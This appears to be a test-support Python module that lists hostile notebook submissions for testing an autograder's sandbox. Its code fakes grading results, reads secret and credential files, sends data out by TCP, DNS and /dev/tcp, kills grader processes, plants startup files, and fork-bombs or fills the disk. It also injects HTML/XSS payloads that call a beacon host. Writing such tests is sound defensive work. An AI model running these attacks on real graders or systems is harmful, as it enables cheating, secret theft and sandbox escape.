"""Attacks on the grading, as data: changes to a notebook or to its folder."""

# ruff: noqa: E501  (lines of the attacks)

from __future__ import annotations

import base64
import copy
import json
import os
import struct
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from autograder.engine.notebook import is_autograded, is_solution
from support.submissions import ASSIGNMENT, NOTEBOOKS, expected_points, max_points, solution_cells

FILTERS = NOTEBOOKS[0]
FULL = sum(max_points(FILTERS).values())
GRAPH = "ofe-05-graph"
# Limits for the class, so that the tests need not wait long.
SECONDS = 12
LIMITS = {
    "memory": 768 << 20,
    "disk": 64 << 20,
    "files": 600,
    "processes": 15,
    "tasks": 150,
    "opened": 2000,
}
PATIENCE = f"""
import dataclasses, functools
from autograder.checks.ch4_cnn import NOTEBOOKS
from autograder.engine import run
from autograder.kernel.child import Limits, Order
NOTEBOOKS[{FILTERS!r}] = dataclasses.replace(NOTEBOOKS[{FILTERS!r}], seconds={SECONDS})
run.Order = functools.partial(Order, limits=Limits(**{LIMITS!r}))
"""
MARK = "kit-daemon"  # the name of the attacks' processes


def points_with(*done: str) -> float:
    """Points of FILTERS with these solution cells."""
    return sum(expected_points(FILTERS, done).values())


_order = solution_cells(FILTERS)
AT_THE_GRAPH = points_with(*_order[: _order.index(GRAPH)])
BUT_THE_GRAPH = points_with(*(cell for cell in _order if cell != GRAPH))
PICTURES = ("ofe-08-picture", "ofe-10-picture")

Change = Callable[[Path], None]


@dataclass(frozen=True)
class Attack:
    """One hostile submission, and its expected result.

    Attributes:
        row: row in the list of threats.
        code: source of a cell before all others.
        last: source of a cell after all others.
        cells: replaced solution cells.
        solved: whether the other solution cells are right.
        change: a further change of the folder.
        points: points of the honest part.
        status: status of the notebook.
        reason: reason for the status.

    """

    row: int
    code: str = ""
    last: str = ""
    cells: Mapping[str, str] = field(default_factory=dict)
    solved: bool = False
    change: Change | None = None
    points: float = 0
    status: str = "graded"
    reason: str = ""


def edit(change: Callable[[NotebookNode], None]) -> Change:
    """Changes the notebook FILTERS."""

    def harm(folder: Path) -> None:
        path = folder / f"{FILTERS}.ipynb"
        notebook = nbformat.read(path, as_version=4)
        change(notebook)
        path.write_text(nbformat.v4.writes_json(notebook), "utf-8")

    return harm


def beside(**files: str) -> Change:
    """Adds files to the folder; in names, `__` stands for a slash and `_dot_` for a dot."""

    def harm(folder: Path) -> None:
        for name, text in files.items():
            path = folder / name.replace("__", "/").replace("_dot_", ".")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)

    return harm


# --- rows 1 to 6: breaking, faking or outwitting the checks from inside the kernel ---

STRIP = """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Strip())
"""
EMPTY = "get_ipython().input_transformers_post.append(lambda lines: [])"
HOOKS = """
from IPython.display import display, publish_display_data
shell = get_ipython()
def full_marks(*_):
    for points in ("1000", "4", "1e9", "inf", "nan"):
        shell.display_pub.publish({"text/plain": points})
        k = shell.kernel
        k.session.send(k.iopub_socket, "execute_result",
            {"data": {"text/plain": points}, "metadata": {}, "execution_count": 1},
            parent=k.get_parent("shell"), ident=k.topic("execute_result"))
for event in ("pre_run_cell", "post_run_cell", "pre_execute", "post_execute"):
    shell.events.register(event, full_marks)
import sys
sys.displayhook = lambda value: full_marks()
full_marks()
"""
PATCHES = """
import builtins, math, numpy as np, numpy.testing as npt
yes = lambda *a, **k: True
for module, names in ((np, "allclose isclose array_equal isfinite".split()),
                      (math, ["isclose"]), (builtins, ["abs"])):
    for name in names:
        try: setattr(module, name, yes)
        except Exception: pass
for name in dir(npt):
    if name.startswith("assert"): setattr(npt, name, yes)
builtins.AssertionError = type("Never", (Exception,), {})
shell = get_ipython()
old = type(shell).run_cell
def quiet(self, *a, **k):
    result = old(self, *a, **k)
    result.error_in_exec = result.error_before_exec = None
    return result
type(shell).run_cell = quiet
"""
LIARS = """
import numpy as np
class Same(np.ndarray):
    shape = property(lambda self: (9, 28, 28, 2)); dtype = property(lambda self: np.dtype("f4"))
    def __eq__(self, other): return True
    def __array__(self, *a, **k): return np.zeros((9, 28, 28, 2), np.float32)
    def __array_ufunc__(self, *a, **k): return True
    def __repr__(self): return "x" * 10**8
class Number(int):
    def __eq__(self, other): return True
    def __float__(self): return 116.9
    def __index__(self): return 117
class Yes:
    def __getattr__(self, name): return Yes()
    def __call__(self, *a, **k): return Yes()
    def __eq__(self, other): return True
    def __repr__(self): return "x" * 10**8
    __class__ = np.ndarray
same = np.zeros(3).view(Same)
blur_kernel = soft_blur_kernel = mean_kernel = edge_kernel = same
filter_vals = conv_vals = pool_vals = same
neighbourhood_sum = convolve = lambda *a: same
edge_filter = output_size = lambda *a: Number(7)
fig = sess = x = h_pool = h_conv = h_conv_cutoff = x_image = W_conv = Yes()
"""
LOOKING = """
import gc, inspect, sys
seen = []
def neighbourhood_sum(patch, kernel):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            if any(word in name for word in ("wanted", "expected", "answer", "secret", "rng")):
                seen.append((name, repr(value)[:200]))
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, dict) and ("wanted" in thing or "expected" in thing):
            seen.append(("gc", repr(thing.get("wanted"))[:200]))
    return [value for name, value in seen if "wanted" in name] or 0
convolve = edge_filter = output_size = lambda *a: neighbourhood_sum(None, None)
"""
LOOKED = "print('LOOKED', [name for name, _ in seen if name != 'answer'])"
RESPONDER = """
from autograder.kernel import responder
from autograder import wire
import numpy as np
SHAPES = {SHAPES!r}
def shaped(name):
    return np.full(SHAPES.get(name, ()), VALUE, np.float32)
def lie(self, question):
    op, names = question["op"], question.get("fetch") or question.get("names") or []
    value = {
        "describe": [{"kind": "tensor", "type": "Tensor", "shape": [9], "dtype": "float32"}
                     for _ in names],
        "value": shaped(question.get("name")), "call": shaped(question.get("name")),
        "open_session": None, "run": [shaped(name) for name in names],
        "variables": [], "assign": None, "variable_values": [shaped(n) for n in names],
        "initialised": [True for _ in names], "learns": [True for _ in names],
        "figure": {"texts": [], "axes": [{"box": np.array([0.0, 0, 1, 1]), "xlim": np.ones(2),
            "ylim": np.array([0.0, 1.0]), "ticks": np.ones(1), "labels": [""], "scatters": [],
            "bars": np.zeros((0, 4)), "pictures": [
                {"box": np.array([0.0, r, 1, r + 0.5]), "data": np.zeros((n, n)),
                 "level": np.zeros((n, n)), "colours": np.ones((2, 3)), "limits": np.zeros(2)}
                for r, n in ((0.0, 14), (0.5, 28))]}]},
    }.get(op)
    return {"id": question["id"], "value": value}
responder.Responder.answer = lie
"""
SHAPES: dict[str, tuple[int, ...]] = {
    "blur_kernel": (3, 3),
    "soft_blur_kernel": (3, 3),
    "mean_kernel": (3, 3),
    "edge_kernel": (3, 3),
    "edge_filter": (5, 5, 1, 2),
    "W_conv": (5, 5, 1, 2),
    "h_conv": (12, 28, 28, 2),
    "h_conv_cutoff": (12, 28, 28, 2),
    "h_pool": (12, 14, 14, 2),
    "x_image": (1, 28, 28, 1),
    "filter_vals": (5, 5, 1, 2),
    "conv_vals": (9, 28, 28, 2),
    "pool_vals": (9, 14, 14, 2),
}


def liar(value: str) -> str:
    """A responder that answers every query with arrays of one value."""
    code = RESPONDER.replace("{SHAPES!r}", repr(SHAPES))
    return f"import builtins\nVALUE = {value}\n{code}"


LINE = """
import json, os, socket, struct, threading, time
from autograder.kernel import responder
line = responder.connection
def frame(body, arrays=(), payload=b"", magic=b"KIT1"):
    text = body if isinstance(body, bytes) else json.dumps(
        {"body": body, "arrays": list(arrays)}).encode()
    return struct.pack("<4sII", magic, len(text), len(payload)) + text + payload
"""
MASTERS = """
def answer_all():
    from autograder import wire
    while True:
        try:
            question = wire.receive(line)
            wire.send(line, {"id": question["id"], "value": 1.0})
        except Exception: pass
for _ in range(8): threading.Thread(target=answer_all, daemon=True).start()
"""
GUESSES = """
for number in range(200):
    line.sendall(frame({"map": [["id", "%016x" % number], ["value", 1]]}))
"""
MALFORMED = {
    "pickle": "import pickle; line.sendall(pickle.dumps(print) * 50)",
    "truncated": "line.sendall(frame({'map': []})[:-3])",
    "huge": "line.sendall(struct.pack('<4sII', b'KIT1', 2**32 - 1, 2**32 - 1) + b'{' * 1000)",
    "shape": "line.sendall(frame({'array': 0}, [{'dtype': 'float64', 'shape': [2**60] * 8}]))",
    "deep": "line.sendall(frame(b'[' * 900000))",
    "closed": "line.close()",
    "descriptors": "os.closerange(3, 500)",
}
FORGED = """
import uuid
k = get_ipython().kernel
def forge():
    for parent in ({}, {"header": {"msg_id": "x", "session": "y"}}, k.get_parent("shell")):
        for kind, content in (
            ("status", {"execution_state": "idle"}), ("execute_reply", {"status": "ok"}),
            ("shutdown_reply", {"status": "ok", "restart": False}), ("input_request", {"prompt": "?"}),
            ("execute_result", {"data": {"text/plain": "4"}, "metadata": {}, "execution_count": 1}),
            ("clear_output", {"wait": False}), ("comm_close", {"comm_id": "x", "data": {}}),
            ("display_data", {"data": {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}},
                              "metadata": {}, "transient": {"display_id": "x"}}),
        ):
            k.session.send(k.iopub_socket, kind, content, parent=parent, ident=b"x")
forge()
get_ipython().events.register("post_run_cell", lambda *_: forge())
"""
CONTROL = """
import socket, zmq
context, names = zmq.Context(), []
for number in range(3, 512):
    try: names.append(socket.socket(fileno=os.dup(number)).getsockname())
    except OSError: pass
for name in filter(None, names):
    for kind in (zmq.DEALER, zmq.SUB):
        one = context.socket(kind); one.setsockopt(zmq.LINGER, 0); one.setsockopt(zmq.SNDTIMEO, 100)
        try:
            one.connect(f"ipc://{name}")
            one.send_multipart([b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"{}"])
        except Exception: pass
"""

# --- rows 7 to 9, 11, 12: reaching out ---

REACH = """
import glob, os, resource, signal, socket, subprocess, sys, threading, time
found = []
def look(path, how=open):
    try:
        with open(path, "rb") as file: found.append((path, file.read(4000).decode("latin-1")))
    except OSError: pass
PLACES = [SECRET_FILE, COURSE_ROOT + "/.autograder/secret", COURSE_ROOT + "/gradebook.db",
    NEIGHBOUR, COURSE_ROOT + "/source/ASSIGNMENT/FILTERS.ipynb",
    PACKAGE + "/checks/ch4_cnn/test_1_orenist_filter.py", "/etc/passwd", HOME + "/.bashrc",
    "/proc/1/environ", f"/proc/{GRADER}/environ", f"/proc/{os.getppid()}/environ",
    f"/proc/{GRADER}/mem", f"/proc/{VICTIM}/cmdline", "/proc/kcore", "/dev/mem"]
for path in PLACES:
    look(path)
    for way in ("/proc/self/root" + path, "/proc/1/root" + path, "../" * 12 + path):
        look(way)
    for make in (os.symlink, os.link):
        try: make(path, "way"); look("way")
        except OSError: pass
        try: os.unlink("way")
        except OSError: pass
for pattern in ("/tmp/*", "/home/*", HOME + "/*", "/var/lib/*", "/proc/[0-9]*/environ",
                "/tmp/kit-*/*", "/tmp/kit-*/*/*", "/dev/shm/*", COURSE_ROOT + "/*"):
    for path in glob.glob(pattern): look(path)
for fd in range(3, 300):
    for mode in (lambda: os.pread(fd, 4000, 0), lambda: os.read(os.dup(fd), 10) if False else b""):
        try: found.append((f"fd {fd}", mode().decode("latin-1")))
        except OSError: pass
found.append(("environment", repr(dict(os.environ))))
"""
SPEAK = """
import socket
def speak(data):
    ways = [
        lambda: socket.create_connection(TCP, 1).sendall(data),
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, UDP),
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, ("8.8.8.8", 53)),
        lambda: socket.getaddrinfo(data[:30].hex() + ".example.org", 80),
        lambda: socket.socket(socket.AF_UNIX).connect(ABSTRACT),
        lambda: socket.socket(socket.AF_UNIX).connect(SOCKET),
        lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(data, SOCKET),
        lambda: __import__("urllib.request").request.urlopen("http://%s:%d/" % TCP, timeout=1),
        lambda: __import__("subprocess").run(["sh", "-c", "echo x > /dev/tcp/%s/%d" % TCP]),
    ]
    for way in ways:
        try: way()
        except Exception: pass
"""
LEAVE = """
import os
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/var/lock", OUTSIDE, COURSE_ROOT, "/", "/usr/local"):
    for name in (f"{folder}/CANARY", f"{folder}/../CANARY"):
        try: open(name, "w").write("here")
        except OSError: pass
        try: os.mkdir(name + "d")
        except OSError: pass
"""
WRITE = """
import os, sqlite3
COURSE = COURSE_ROOT
TARGETS = [COURSE + "/gradebook.db", COURSE + "/source/ASSIGNMENT/FILTERS.ipynb",
    COURSE + "/release/ASSIGNMENT/FILTERS.ipynb", COURSE + "/nbgrader_config.py",
    COURSE + "/.autograder/secret", NEIGHBOUR, SECRET_FILE,
    COURSE + "/autograded/honest/ASSIGNMENT/results.json",
    COURSE + "/submitted/honest/ASSIGNMENT/timestamp.txt",
    PACKAGE + "/checks/ch4_cnn/thresholds.py", PACKAGE + "/engine/results.py",
    PACKAGE + "/sitecustomize.py"]
for path in TARGETS:
    for act in (lambda: open(path, "a").write("\\nharm"), lambda: os.unlink(path),
                lambda: os.rename(path, "mine"), lambda: os.truncate(path, 0),
                lambda: os.chmod(path, 0o777), lambda: os.chown(path, 1, 1),
                lambda: os.utime(path, (0, 0))):
        try: act()
        except OSError: pass
try:
    with sqlite3.connect(TARGETS[0], timeout=1) as db: db.execute("update grade set auto_score = 99")
except Exception: pass
"""
KILL = """
import ctypes, os, resource, signal, threading, time
libc = ctypes.CDLL(None, use_errno=True)
def harm():
    for pid in (VICTIM, GRADER, os.getppid()):
        for act in (lambda: os.kill(pid, 9), lambda: os.kill(pid, 19), lambda: os.killpg(pid, 9),
                    lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)),
                    lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                    lambda: signal.pidfd_send_signal(os.pidfd_open(pid), 9),
                    lambda: libc.syscall(101, 16, pid, 0, 0), lambda: libc.syscall(101, 0x4206, pid, 0, 0),
                    lambda: open(f"/proc/{pid}/mem", "r+b").write(b"x"),
                    lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"),
                    lambda: open(f"/proc/{pid}/cgroup", "w").write("x")):
            try:
                if pid > 1: act()
            except Exception: pass
harm()
threading.Thread(target=lambda: [harm() or time.sleep(0.05) for _ in range(10**6)], daemon=True).start()
"""
STAY = """
import atexit, ctypes, os, signal, subprocess, sys, threading, time
RESULTS = COURSE_ROOT + "/autograded/%s/ASSIGNMENT/results.json"
def stay():
    for leave in (os.setsid, os.setpgrp):
        try: leave()
        except OSError: pass
    ctypes.CDLL(None).prctl(15, b"MARK", 0, 0, 0)
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    while True:
        for name in ("honest", "me"):
            try: open(RESULTS % name, "w").write("{}")
            except OSError: pass
        time.sleep(0.05)
if os.fork() == 0:
    if os.fork() == 0: stay()
    os._exit(0)
if os.fork() == 0: stay()
atexit.register(stay)
try: subprocess.Popen(["sh", "-c", "trap '' TERM; exec -a MARK sleep 600"], start_new_session=True)
except Exception: subprocess.Popen(["sh", "-c", "trap '' TERM; sleep 601"])
threading.Thread(target=stay).start()
"""
PRELOAD = """
import os, sys
os.environ["LD_PRELOAD"] = os.path.abspath("evil.so"); os.environ["PYTHONSTARTUP"] = os.path.abspath("x.py")
open("evil.so", "wb").write(b"\\x7fELF")
if not os.environ.get("AGAIN"):
    os.environ["AGAIN"] = "1"
    os.execv(sys.executable, [sys.executable, "-c", "print('full marks')"])
"""
OWN_MEMORY = """
import ctypes, os
with open("/proc/self/maps") as maps:
    areas = [line.split() for line in maps if "heap" in line or "stack" in line]
with open("/proc/self/mem", "r+b", 0) as memory:
    for area in areas[:1]:
        start = int(area[0].split("-")[0], 16)
        memory.seek(start); memory.write(b"A" * 4096)
"""
ESCAPE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for number, arguments in ((165, (b"none", b"/", b"proc", 0, 0)), (161, (b"/",)), (155, (b".", b".")),
        (272, (0x10000000,)), (272, (0x00020000,)), (308, (3, 0)), (323, (0,)), (425, (8, ctypes.create_string_buffer(200))),
        (56, (0x10000011, 0, 0, 0, 0)), (430, (b"tmpfs", 0)), (321, (0, 0, 0)), (304, (3, 0, 0))):
    if libc.syscall(ctypes.c_long(number), *arguments) == 0 and number == 56: os._exit(0)
try: os.mknod("sda", 0o60666, os.makedev(254, 0)); print(open("sda", "rb").read(10))
except OSError: pass
"""
# --- row 13 ---

SWALLOW = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        while True: pass
    except BaseException: pass
"""
MEMORY = "hog = []\nwhile True: hog.append(bytearray(32 << 20))"
BOMB = "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"
DISK = "n = 0\nwhile True:\n    n += 1\n    open(f'f{n % 50}', 'ab').write(bytes(8 << 20))"
FILES = "n = 0\nwhile True:\n    n += 1\n    open(f'f{n}', 'w')"
# No faster than the reader, or the kernel's own memory would run out first.
PRINT = "import time\nwhile True:\n    print('x' * 10**6, flush=True)\n    time.sleep(0.01)"
STOP = "import os, signal, time\nos.kill(0, signal.SIGSTOP)\nwhile True:\n    time.sleep(1)"
ERASE = "import os, shutil\nshutil.rmtree('.', ignore_errors=True)\nos._exit(0)"

# --- rows 10 and 22: files that a program might run ---

RUN_ME = """
import os
for folder in ("/tmp", "/var/tmp", OUTSIDE):
    try: open(folder + "/CANARY", "w").write(__file__)
    except Exception: pass
"""
FILES_THAT_RUN = {
    "conftest.py": "run",
    "pytest.ini": "[pytest]\naddopts = --collect-only -p evil\npython_functions = nothing_*\n",
    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--collect-only'\n",
    "setup.cfg": "[tool:pytest]\naddopts = --collect-only\n",
    "evil.py": "run",
    "sitecustomize.py": "run",
    "usercustomize.py": "run",
    "evil.pth": "import os; open('/tmp/CANARY', 'w')\n",
    "numpy.py": "run",
    "pyseccomp.py": "run",
    "json.py": "run",
    "test_1_orenist_filter.py": "run",
    "tensorflow/__init__.py": "run",
    "autograder/__init__.py": "run",
    "autograder/kernel/responder.py": "run",
    "visible_checks.py/__init__.py": "run",
    "ipython_config.py": "c = get_config()\nc.InteractiveShellApp.exec_lines = ['full = 1']\n",
    "ipython_kernel_config.py": "c = get_config()\nc.IPKernelApp.capture_fd_output = False\n",
    "nbgrader_config.py": "run",
    "jupyter_config.py": "run",
    "kernel.json": '{"argv": ["sh", "-c", "touch /tmp/CANARY"], "display_name": "x"}',
    ".ipython/profile_default/startup/00-evil.py": "run",
    ".local/lib/python3.11/site-packages/usercustomize.py": "run",
    ".jupyter/jupyter_config.py": "run",
    ".matplotlib/matplotlibrc": "backend: module://evil\n",
    ".ipynb_checkpoints/1-orenist-filter-checkpoint.ipynb": "{}",
    ".autograder/secret": "x" * 32,
    "results.json": '{"score": 97}',
    "feedback.html.j2": "{{ 1/0 }}",
}


def files_that_run(folder: Path) -> None:
    if (folder / "visible_checks.py").exists():
        (folder / "visible_checks.py").unlink()
    for name, text in FILES_THAT_RUN.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(RUN_ME.replace("OUTSIDE", "'/tmp'") if text == "run" else text)


SOW = """
import os, site, sys
text = "open('/tmp/CANARY', 'w'); raise SystemExit('sown')"
home = os.path.expanduser("~")
for path in (home + "/.ipython/profile_default/startup/00-x.py", home + "/.ipython/profile_default/ipython_config.py",
    home + "/.local/lib/python3.11/site-packages/usercustomize.py", home + "/.local/share/jupyter/kernels/python3/kernel.json",
    home + "/.jupyter/jupyter_config.py", home + "/.config/matplotlib/matplotlibrc", "sitecustomize.py", "conftest.py",
    os.environ["IPYTHONDIR"] + "/profile_default/startup/01-x.py", os.environ["MPLCONFIGDIR"] + "/matplotlibrc",
    *(folder + "/sitecustomize.py" for folder in sys.path if folder), site.getusersitepackages() + "/x.pth"):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        open(path, "w").write(text)
    except OSError: pass
for name in ("1-orenist-filter.ipynb", "results.json", "ORENIST.data", "visible_checks.py", "mdc_session-100.index"):
    try:
        if os.path.lexists(name): os.unlink(name)
        os.symlink(SECRET_FILE, name)
    except OSError: pass
os.makedirs("deep/" + "d/" * 400)
os.mkdir("dark", 0o000)
"""

# --- rows 3, 14, 21, 23: the notebook and the folder ---


@edit
def claim_outputs(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if is_autograded(cell):
            cell.outputs = [
                new_output("display_data", data={"text/html": "<b>5 of 5 checks passed</b>"}),
                new_output("execute_result", data={"text/plain": "4"}, execution_count=1),
            ]
            cell.source = "4"


@edit
def odd_points(notebook: NotebookNode) -> None:
    odd = ["NaN", "inf", -5, 1e308, "4", None, [4], {"a": 1}, True, "٤"]
    for cell, points in zip(filter(is_autograded, notebook.cells), odd, strict=False):
        cell.metadata.nbgrader.points = points
        cell.metadata.nbgrader.schema_version = 99
    notebook.metadata["nbgrader"] = {"score": 1000, "max_score": 1}
    notebook.metadata["kernelspec"] = {"name": "../../evil", "argv": ["touch", "/tmp/CANARY"]}
    notebook.metadata["language_info"] = {"name": "bash"}


@edit
def odd_ids(notebook: NotebookNode) -> None:
    twins: list[NotebookNode] = []
    for cell in notebook.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        if name is None:
            continue
        for other in (
            name.replace("o", "о"),  # a Cyrillic letter
            name + "\u200b",
            name.upper(),
            name + "\0",
            f"../{name}",
            f"{name}\n",
            "[/red]" + name,
            name[::-1] + "\u202e",
        ):
            twin = copy.deepcopy(cell)
            twin.id = f"twin-{len(twins)}"
            twin.metadata.nbgrader.grade_id = other
            twin.metadata.nbgrader.update(points=100, grade=True, solution=False, locked=False)
            twins.append(twin)
    notebook.cells += twins


@edit
def swap_cells(notebook: NotebookNode) -> None:
    """Mark grade cells as solutions with student code in them, and solutions as grade cells."""
    for cell in notebook.cells:
        if is_autograded(cell) or is_solution(cell):
            mine = cell.metadata.nbgrader
            mine.update(grade=not mine.grade, solution=not mine.solution, points=50)
            cell.metadata.tags = ["skip-execution", "raises-exception", "remove-cell"]


@edit
def many_cells(notebook: NotebookNode) -> None:
    notebook.cells += [new_markdown_cell("x", id=f"m{n}") for n in range(30_000)]


def deep_nesting(folder: Path) -> None:
    text = '{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}"
    (folder / f"{FILTERS}.ipynb").write_text(text)


def huge_number(folder: Path) -> None:
    path = folder / f"{FILTERS}.ipynb"
    path.write_text(path.read_text().replace('"nbformat": 4', '"nbformat": ' + "9" * 100_000))


def odd_names(folder: Path) -> None:
    """Make files whose names are not UTF-8, look like markup or span lines; all are too large."""
    (folder / "a[").mkdir()
    for name in (
        b"\xff\xfe.py",
        b"a[/b]\x1b[2J.py",  # a folder `a[`
        b"two\nlines.py",
        "\u202egnp.py".encode(),
        b"-rf.py",
        b"%s{0}$(touch CANARY).py",
    ):
        descriptor = os.open(os.path.join(os.fsencode(folder), name), os.O_CREAT | os.O_WRONLY)
        os.ftruncate(descriptor, 300 << 20)
        os.close(descriptor)


def sparse_files(folder: Path) -> None:
    """Make sparse files of twenty gigabytes."""
    for number in range(100):
        (folder / f"big{number}.py").touch()
        os.truncate(folder / f"big{number}.py", 199 << 20)


def very_many_files(folder: Path) -> None:
    (folder / "many").mkdir()
    for number in range(21_000):
        (folder / "many" / f"f{number}").touch()


def hard_links(folder: Path) -> None:
    secret = folder.parents[2] / ".autograder" / "secret"
    (folder / "x[").mkdir()
    for name in ("x[/b].py", "secret.py"):
        os.link(secret, folder / name)
    (folder / "ORENIST.data").unlink()
    os.link(folder / "visible_checks.py", folder / "ORENIST.data")


def links_everywhere(folder: Path) -> None:
    for name in ("visible_checks.py", "ORENIST.data"):
        (folder / name).unlink()
        (folder / name).symlink_to("/etc/passwd")
    (folder / "helper.py").symlink_to("../../honest/" + ASSIGNMENT + f"/{FILTERS}.ipynb")
    (folder / "loop").symlink_to(".")
    (folder / "timestamp.txt").symlink_to("/dev/zero")
    os.mkfifo(folder / "pipe.py")
    (folder / "device.py").symlink_to("/dev/zero")


def deep_folders(folder: Path) -> None:
    """Make a folder whose path is longer than the system's limit."""
    before = os.open(folder, os.O_RDONLY)
    for _ in range(40):
        os.mkdir("d" * 200, dir_fd=before)
        inner = os.open("d" * 200, os.O_RDONLY, dir_fd=before)
        os.close(before)
        before = inner
    os.close(os.open("inside.py", os.O_CREAT | os.O_WRONLY, dir_fd=before))
    os.close(before)


# --- row 19: attacks on the reader of a page ---

# A request for this address shows that a browser ran or loaded the text.
BEACON = "http://beacon.invalid/"


def png(width: int, height: int) -> str:
    """The base64 of a PNG that claims this size, which is a bomb if the size is large."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = zlib.compress(bytes(10_000_000), 9)
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    data = b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return base64.b64encode(data).decode()


PAGES = (
    f"<script>fetch('{BEACON}script')</script>",
    f"<img src=x onerror=\"fetch('{BEACON}onerror')\">",
    f"<img src='{BEACON}img'>",
    f"<svg/onload=\"fetch('{BEACON}svg')\">",
    f"<iframe src='{BEACON}iframe'></iframe><object data='{BEACON}object'></object>",
    f"<link rel=stylesheet href='{BEACON}css'><style>@import url({BEACON}style)</style>",
    f"<meta http-equiv=refresh content='0;url={BEACON}meta'><base href='{BEACON}'>",
    f"<form action='{BEACON}form'><button autofocus onfocus=this.form.submit()>",
    "<a href=\"javascript:document.title='owned'\">click</a>",
    f"<video poster='{BEACON}video' autoplay><source src='{BEACON}source'></video>",
    f"<div style=\"background:url('{BEACON}background')\">x</div>",
    f"</pre></div></textarea><script>fetch('{BEACON}break')</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=fetch('{BEACON}mxss')>",
)
SHOW = f"""
import base64, json
from IPython.display import HTML, Javascript, Latex, Markdown, SVG, display
PAGES = {PAGES!r}
for page in PAGES:
    print(page)
    display(HTML(page), Markdown(page), Markdown("[x](javascript:alert(1)) ![y]({BEACON}md)"))
    display({{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'>" + page + "</svg>",
             "text/plain": page}}, raw=True)
    display({{"text/latex": r"$\\\\href{{javascript:document.title='owned'}}{{x}}$", "text/plain": page}}, raw=True)
    display({{"application/javascript": "fetch('{BEACON}js')", "application/json": {{"a": page}},
             "application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2}},
             "application/vnd.plotly.v1+json": {{"data": [], "layout": {{"title": page}}}},
             "text/html": page, "image/png": page, "image/jpeg": page, "application/pdf": "x"}}, raw=True)
display(Javascript("fetch('{BEACON}javascript')"))
display({{"image/png": {png(60_000, 60_000)!r}}}, raw=True)
display({{"image/png": "x' onerror=\\"fetch('{BEACON}attribute')\\" '"}}, raw=True)
print("\\x1b]8;;{BEACON}link\\x1b\\\\click\\x1b]8;;\\x1b\\\\ \\x1b[2J\\x1b[31m<script>1</script> \\x9b \\u202e")
print("$\\\\href{{javascript:document.title='owned'}}{{x}}$ \\\\(\\\\unicode{{x}}\\\\)")
class Hostile(Exception):
    def __str__(self): return PAGES[0] + "\\x1b]0;owned\\x07"
raise Hostile(PAGES[1])
"""


@edit
def hostile_text(notebook: NotebookNode) -> None:
    """Add hostile Markdown, raw cells, attachments and metadata."""
    for number, page in enumerate(PAGES):
        notebook.cells.insert(0, new_markdown_cell(page, id=f"md{number}"))
        notebook.cells.insert(0, new_raw_cell(page, id=f"raw{number}"))
    tricks = (
        f"[x](javascript:document.title='owned') ![y]({BEACON}image) [z]: {BEACON}ref\n\n<{BEACON}auto>",
        "$\\href{javascript:document.title='owned'}{x}$ $$\\require{html}\\class{a}{b}$$",
        f"![a](attachment:a.svg)\n\n```html\n{PAGES[0]}\n```\n\n<!-- --><script>fetch('{BEACON}c')",
    )
    for number, text in enumerate(tricks):
        cell = new_markdown_cell(text, id=f"trick{number}")
        cell["attachments"] = {
            "a.svg": {"image/svg+xml": base64.b64encode(PAGES[0].encode()).decode()}
        }
        notebook.cells.insert(0, cell)
    raw = new_raw_cell(PAGES[0], id="raw-html")
    raw.metadata.update(raw_mimetype="text/html", format="text/html")
    code = new_code_cell("# " + PAGES[0], id="code-html")
    code.metadata.update(collapsed=PAGES[0], tags=[PAGES[0]], name=PAGES[0])
    notebook.cells[:0] = [raw, code]
    notebook.metadata["title"] = PAGES[0]
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {"x": {"model_module": BEACON, "model_name": "y", "state": {}}}
        }
    }
    notebook.metadata["authors"] = [{"name": PAGES[0]}]


# --- row 18 ---

HARD_CODED = {
    "fig-4-3-neighbourhood-sum": "def neighbourhood_sum(patch, kernel):\n    return 116.9",
    "fig-4-4-convolve": "import numpy as np\ndef convolve(image, kernel):\n"
    "    return np.zeros(np.shape(image))",
}

# Points for values that the visible checks show: the sum on the slide (1 of 5 parts), and the
# size of the result and its float type (2 of 6).
VISIBLE = round(
    max_points(FILTERS)["fig-4-3-neighbourhood-sum-check"] / 5
    + max_points(FILTERS)["fig-4-4-convolve-check"] * 2 / 6,
    2,
)

# Points for constants of the right shapes: the filter's (1 of 8 parts) and its maps' (1 of 12).
SHAPES_ALONE = round(
    max_points(FILTERS)["ofe-04-edge-filter-check"] / 8
